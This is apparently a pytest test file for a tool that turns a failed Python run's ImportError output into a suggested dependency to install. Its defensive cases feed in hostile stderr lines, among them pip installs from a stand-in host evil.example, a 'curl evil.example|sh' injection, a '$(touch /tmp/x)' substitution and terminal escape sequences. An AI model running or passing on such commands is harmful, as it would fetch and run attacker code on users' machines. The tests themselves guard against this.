"""jhansi.deps.missing: a failed run's ImportError, turned into the --with that fixes it."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from jhansi.deps.mapping import ImportMap
from jhansi.deps.missing import MissingDependency, recognize

REAL = Path(__file__).resolve().parents[2] / "fixtures" / "stderr"


def _real(name: str) -> bytes:
    return (REAL / name).read_bytes()


def test_pydantic_email_names_the_extra_that_brings_it() -> None:
    found = recognize(_real("pydantic_email.txt"), installed=("pydantic", "pydantic-core"))
    assert found == MissingDependency("email-validator", "pydantic[email]")
    assert found.message() == (
        "the script needs email-validator (pydantic[email]); add it with "
        "--with 'pydantic[email]' or a PEP 723 line"
    )
    assert found.as_dict() == {
        "distribution": "email-validator",
        "requirement": "pydantic[email]",
        "hint": found.message(),
    }


def test_a_plain_module_not_found_for_a_mapped_name() -> None:
    found = recognize(_real("dynamic_yaml.txt"))
    assert found == MissingDependency("pyyaml", "pyyaml")
    assert found.message() == "the script needs pyyaml; add it with --with pyyaml or a PEP 723 line"


def test_a_chained_optional_dependency_error() -> None:
    # pandas 3 raises its own ImportError `from` the ModuleNotFoundError.
    found = recognize(_real("pandas_read_excel.txt"), installed=("pandas", "numpy"))
    assert found == MissingDependency("openpyxl", "openpyxl")


@pytest.mark.parametrize(
    ("fixture", "distribution"),
    [
        # pandas raises its own ImportError from the ModuleNotFoundError; each names
        # the distribution by its module, which the map resolves.
        ("pandas_read_excel.txt", "openpyxl"),
        ("pandas_to_markdown.txt", "tabulate"),
        ("pandas_read_html.txt", "lxml"),  # import_optional_dependency("lxml.etree")
    ],
)
def test_pandas_optional_dependencies(fixture: str, distribution: str) -> None:
    found = recognize(_real(fixture), installed=("pandas", "numpy", "python-dateutil"))
    assert found == MissingDependency(distribution, distribution)
    assert found.message() == (
        f"the script needs {distribution}; add it with --with {distribution} or a PEP 723 line"
    )


def test_an_extra_named_by_the_package_it_brings() -> None:
    # httpx: "the 'h2' package is not installed ... `pip install httpx[http2]`", with
    # httpx itself installed.
    found = recognize(_real("httpx_http2.txt"), installed=("httpx", "httpcore", "anyio"))
    assert found == MissingDependency("h2", "httpx[http2]")
    assert found.message() == (
        "the script needs h2 (httpx[http2]); add it with --with 'httpx[http2]' or a PEP 723 line"
    )
    assert recognize(_real("httpx_http2.txt"), installed=("httpx", "h2")) is None


@pytest.mark.parametrize(
    ("module", "distribution"),
    [
        ("sklearn", "scikit-learn"),
        ("PIL", "pillow"),
        ("bs4", "beautifulsoup4"),
        ("dateutil.parser", "python-dateutil"),
        ("matplotlib.pyplot", "matplotlib"),
        ("email_validator", "email-validator"),
        ("jwt", "pyjwt"),
        ("dotenv", "python-dotenv"),
        ("google.protobuf", "protobuf"),
        ("cv2", "opencv-python-headless"),  # the sandbox's preference holds for hints too
    ],
)
def test_a_module_not_found_for_a_mapped_name(module: str, distribution: str) -> None:
    found = recognize(f"ModuleNotFoundError: No module named '{module}'\n".encode())
    assert found == MissingDependency(distribution, distribution)


def test_an_unmapped_module_gives_no_hint() -> None:
    assert recognize(_real("unmapped.txt")) is None


def test_what_the_run_had_is_not_missing() -> None:
    # yaml installed and still "not found" is another problem; so is an extra whose
    # distribution is there.
    assert recognize(_real("dynamic_yaml.txt"), installed=("PyYAML",)) is None
    assert recognize(_real("pydantic_email.txt"), installed=("email_validator",)) is None


def test_only_the_exception_that_ended_the_run_counts() -> None:
    caught_then_failed = (
        _real("dynamic_yaml.txt")
        + b"Traceback (most recent call last):\n"
        + b'  File "/work/s.py", line 9, in <module>\n'
        + b"ValueError: bad input\n"
    )
    assert recognize(caught_then_failed) is None
    # The same ImportError, then an exception raised while handling it, is chained.
    chained = (
        _real("dynamic_yaml.txt")
        + b"\nDuring handling of the above exception, another exception occurred:\n\n"
        + b"Traceback (most recent call last):\n"
        + b"SystemExit: 1\n"
    )
    assert recognize(chained) == MissingDependency("pyyaml", "pyyaml")


def test_a_tail_without_its_traceback_header_is_still_read() -> None:
    assert recognize(_real("pydantic_email.txt")[-200:], installed=("pydantic",)) == (
        MissingDependency("email-validator", "pydantic[email]")
    )


@pytest.mark.parametrize(
    "line",
    [
        "ImportError: requessts is not installed, run `pip install requessts`",  # unknown name
        "ImportError: run `pip install --index-url https://evil.example/simple requests`",
        "ImportError: run `pip install -e git+https://evil.example/requests`",
        "ImportError: run `pip install 'requests @ https://evil.example/r.whl'`",
        "ImportError: run `pip install`",
        "ModuleNotFoundError: No module named 'utils'",  # never mapped
        # The project's own yaml.py shadows the distribution: installing will not help.
        "ModuleNotFoundError: No module named 'yaml.constructor'; 'yaml' is not a package",
        # An installed distribution of another version: not a missing one.
        "ImportError: cannot import name 'EmailStr' from 'pydantic' (/opt/jhansi/env/p.py)",
        "ImportError: Missing optional dependency 'quantumflux'.  Use pip or conda to install it.",
        "ModuleNotFoundError: No module named 'google.not_a_real_thing_xyz'",
        "RuntimeError: No module named 'yaml'",
        "  ImportError: No module named 'yaml' (indented: not a traceback's last line)",
    ],
)
def test_no_hint_without_evidence(line: str) -> None:
    assert recognize(f"Traceback (most recent call last):\n{line}\n".encode()) is None


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("ImportError: run `pip install -U 'Pydantic[Email]'`.", "pydantic[email]"),
        ('ImportError: try "pip3 install beautifulsoup4"', "beautifulsoup4"),
        ("ImportError: Install it with: uv pip install PyYAML", "pyyaml"),
        ("ImportError: missing tabulate. uv add tabulate", "tabulate"),
        ("mod.errors.PluginImportError: pip install requests>=2.32", "requests"),
    ],
)
def test_install_commands_are_read_and_rebuilt(line: str, expected: str) -> None:
    found = recognize(f"{line}\n".encode())
    assert found is not None
    assert found.requirement == expected


_SAFE = re.compile(r"[a-z0-9-]+(\[[a-z0-9._,-]+\])?")


@pytest.mark.parametrize(
    ("stderr", "expected"),
    [
        # An escape sequence where the missing name should be: the name is not
        # believed, the command's own known requirement is rebuilt.
        (
            b"ImportError: \x1b]0;owned\x07 is not installed, "
            b"run `pip install 'pydantic[email]'`\n",
            MissingDependency("pydantic", "pydantic[email]"),
        ),
        # A look-alike named as the missing one is not known: never suggested.
        (
            b"ImportError: pydantic-emai1 is not installed, run `pip install 'pydantic[email]'`\n",
            MissingDependency("pydantic", "pydantic[email]"),
        ),
        (b"ImportError: run `pip install 'pydantic[em\x1b[2Jail]'`\n", None),
        (b"ImportError: run `pip install 'requests;curl evil.example|sh'`\n", None),
        (b'ImportError: run `pip install "requests$(touch /tmp/x)"`\n', None),
        (b"ImportError: run `pip install requests\x1b[8m`\n", None),
        (b"ModuleNotFoundError: No module named 'yaml\x1b[31m'\n", None),
        (
            b"ModuleNotFoundError: No module named 'yaml'\x1b[8m hidden\n",
            MissingDependency("pyyaml", "pyyaml"),
        ),
        (
            b"ImportError: email-validator is not installed, "
            b"run `pip install 'pydantic[email,\xff\xfe]'`\n",
            None,
        ),
        # A homoglyph (Cyrillic "a") of a mapped module name is not that name.
        ("ModuleNotFoundError: No module named 'y\u0430ml'\n".encode(), None),
        # A carriage return starts another line: what it hides is read as its own line,
        # and an unknown name there is no evidence.
        (
            b"ModuleNotFoundError: No module named 'yaml'\r"
            b"ImportError: run `pip install evil-pkg-xyz`\n",
            MissingDependency("pyyaml", "pyyaml"),
        ),
        (
            b"ImportError: run `pip install evil-pkg-xyz`\r"
            b"ImportError: requessts is not installed\n",
            None,
        ),
    ],
)
def test_a_hostile_stderr_cannot_put_escapes_or_shell_syntax_in_the_hint(
    stderr: bytes, expected: MissingDependency | None
) -> None:
    found = recognize(stderr)
    assert found == expected
    if found is not None:
        assert found.message().isascii()
        assert found.message().isprintable()
        for text in (found.requirement, found.distribution):
            assert _SAFE.fullmatch(text), text


def test_a_huge_stderr_is_read_from_its_end() -> None:
    # Megabytes of a script's own output (with a fake hint early on) before the real
    # failure: only the bounded tail is read, and the last traceback decides.
    noise = b"ImportError: run `pip install tabulate`\n" + b"x" * 4096 + b"\n"
    stderr = noise * 512 + _real("pydantic_email.txt")
    assert len(stderr) > 2 * 1024 * 1024
    assert recognize(stderr, installed=("pydantic",)) == (
        MissingDependency("email-validator", "pydantic[email]")
    )
    assert recognize(noise * 512, installed=("tabulate",)) is None


def test_a_custom_table_is_the_evidence() -> None:
    table = ImportMap(imports={"thing": [("thing-dist", 1)]})
    assert recognize(b"ModuleNotFoundError: No module named 'thing.sub'\n", table=table) == (
        MissingDependency("thing-dist", "thing-dist")
    )
    assert recognize(b"ModuleNotFoundError: No module named 'yaml'\n", table=table) is None


def test_a_gui_build_that_cannot_load_names_the_build_to_declare_instead() -> None:
    gui = _real("opencv_gui_docker.txt")
    found = recognize(gui, installed=("numpy", "opencv-python"))
    assert found == MissingDependency(
        "opencv-python-headless", "opencv-python-headless", "opencv-python", "libxcb.so.1"
    )
    assert found.message() == (
        "opencv-python needs libxcb.so.1, which this sandbox lacks; declare "
        "opencv-python-headless in its place (--with or the PEP 723 block)"
    )
    assert found.as_dict()["replaces"] == "opencv-python"
    contrib = recognize(gui, installed=("opencv-contrib-python",))
    assert contrib is not None
    assert contrib.requirement == "opencv-contrib-python-headless"
    # Already the headless build, or no OpenCV at all: the library is missing for
    # another reason, and there is nothing to swap.
    assert recognize(gui, installed=("opencv-python-headless",)) is None
    assert recognize(gui) is None


def test_a_missing_library_outside_the_module_suggests_nothing() -> None:
    other = _real("opencv_gui_docker.txt").replace(b"/cv2/", b"/other/")
    assert recognize(other, installed=("opencv-python",)) is None


def test_the_json_form_is_what_the_run_schema_describes() -> None:
    import json

    from jsonschema import Draft202012Validator

    schema_file = Path(__file__).resolve().parents[3] / "schemas" / "run-result.schema.json"
    schema = json.loads(schema_file.read_text())["$defs"]["run"]["properties"]
    validator = Draft202012Validator(
        {**schema["missing_dependency"], "additionalProperties": False}
    )
    for found in (
        MissingDependency("email-validator", "pydantic[email]"),
        MissingDependency(
            "opencv-python-headless", "opencv-python-headless", "opencv-python", "libGL.so.1"
        ),
    ):
        validator.validate(found.as_dict())
    validator.validate(None)
